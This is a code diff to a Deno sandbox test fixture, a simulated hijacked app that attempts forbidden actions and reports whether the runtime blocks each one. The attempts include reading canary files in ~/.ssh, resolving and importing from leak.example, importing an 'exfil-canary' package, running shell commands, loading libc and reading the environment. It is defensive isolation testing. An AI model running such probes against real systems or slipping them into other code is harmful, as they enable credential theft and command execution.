@@ -1,11 +1,10 @@
-/** A hijacked app: stands in for the app Worker and tries everything its row does not grant.
+/** A hijacked app: tries everything its row does not grant, in the app's own process.
  *
- * Started by `attack_kernel.ts` with the real rights of a row. Each attack reports what
- * the runtime, or the kernel, said; `got` means that it succeeded. */
+ * Each attack reports what the runtime, or the kernel, said; `got` means that it succeeded. */
 
-import type { ToApp, ToKernel } from "../../src/contracts/mod.ts";
+import { call as callKernel, send, started } from "./part_channel.ts";
 
-/** Where the attacks aim; handed in as the `--targets=` argument of the start message. */
+/** Where the attacks aim; from `data.json`. */
 export interface Targets {
   /** Files that hold the canary: in the vault, in `~/.ssh`, elsewhere. */
   files: Record<string, string>;
@@ -25,26 +24,17 @@ export interface Attempt {
   outcome: string;
 }
 
-const scope = self as unknown as Worker;
-const post = (message: ToKernel) => scope.postMessage(message);
-const replies = new Map<number, (reply: string) => void>();
-
-scope.onmessage = async ({ data }: MessageEvent<ToApp>) => {
-  if (data.type === "reply") {
-    return replies.get(data.id)?.(data.ok ? "got" : data.error.code);
-  }
-  if (data.type !== "start") return;
-  const targets = JSON.parse(data.start.argv[0]!) as Targets;
-  const attempts: Attempt[] = [];
-  for (const [attack, run] of attacks(targets)) {
-    attempts.push({ attack, outcome: await outcomeOf(run) });
-  }
-  // The report travels as an error's message: the kernel relays nothing else from an app.
-  post({
-    type: "crash",
-    error: { code: "attacks.done", message: JSON.stringify(attempts), exitCode: 1 },
-  });
-};
+const targets: Targets = JSON.parse(
+  await Deno.readTextFile(new URL("./data.json", import.meta.url)),
+);
+await started;
+const attempts: Attempt[] = [];
+for (const [attack, run] of attacks(targets)) {
+  attempts.push({ attack, outcome: await outcomeOf(run) });
+}
+// Its stdout is no terminal here, and so its own.
+Deno.stdout.writeSync(new TextEncoder().encode(`${JSON.stringify(attempts)}\n`));
+send({ type: "exit", code: 0 });
 
 async function outcomeOf(run: () => unknown): Promise<string> {
   try {
@@ -55,13 +45,9 @@ async function outcomeOf(run: () => unknown): Promise<string> {
   }
 }
 
-let calls = 0;
-
-function call(method: string, ...params: unknown[]): Promise<string> {
-  const id = ++calls;
-  const reply = new Promise<string>((resolve) => replies.set(id, resolve));
-  post({ type: "call", id, method: method as never, params });
-  return reply;
+async function call(method: string, ...params: unknown[]): Promise<string> {
+  const reply = await callKernel(method, ...params);
+  return reply.ok ? "got" : reply.error.code;
 }
 
 function* attacks(targets: Targets): Generator<[string, () => unknown]> {
@@ -86,15 +72,18 @@ function* attacks(targets: Targets): Generator<[string, () => unknown]> {
   yield ["resolve a name", () => Deno.resolveDns("leak.example", "A").then(() => true)];
   yield ["import npm", () => import("npm:exfil-" + "canary").then(() => true)];
   yield ["import https", () => import("https://leak.example/" + "canary").then(() => true)];
-  yield ["run", () => new Deno.Command("sh", { args: ["-c", "id"] }).output().then(() => true)];
+  yield [
+    "run",
+    () => new Deno.Command("/bin/sh", { args: ["-c", "id"] }).output().then(() => true),
+  ];
   yield ["child_process", async () => {
     const { execSync } = await import("node:child_process");
-    return execSync("id").length > 0;
+    return execSync("/usr/bin/id", { shell: "/bin/sh" }).length > 0;
   }];
   yield ["ffi", () => Deno.dlopen("libc.so.6", {})];
   yield ["env", () => Deno.env.get("HOME") === undefined ? undefined : true];
   yield ["all of env", () => Object.keys(Deno.env.toObject()).length === 0 ? undefined : true];
-  yield ["wider worker", () => widerWorker(Object.values(targets.files)[0]!)];
+  yield ["a worker", () => ownWorker(Object.values(targets.files)[0]!)];
   for (const method of targets.methods) {
     yield [`call ${method}`, () => call(method, "x", "x", {})];
   }
@@ -111,16 +100,13 @@ function* attacks(targets: Targets): Generator<[string, () => unknown]> {
   yield ["toString", () => call("constructor")];
 }
 
-/** A Worker that asks for more than its parent has. */
-function widerWorker(path: string): Promise<string | true> {
+/** A Worker of the attacker's own. */
+function ownWorker(path: string): Promise<string | true> {
   const code = `try { Deno.readTextFileSync(${JSON.stringify(path)}); postMessage("got"); }
     catch (e) { postMessage(e.name); }`;
   const url = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
   return new Promise((resolve, reject) => {
-    const worker = new Worker(url, {
-      type: "module",
-      deno: { permissions: { read: true } },
-    } as WorkerOptions);
+    const worker = new Worker(url, { type: "module" });
     worker.onmessage = ({ data }) => data === "got" ? resolve(true) : resolve(String(data));
     worker.onerror = (event) => {
       event.preventDefault();
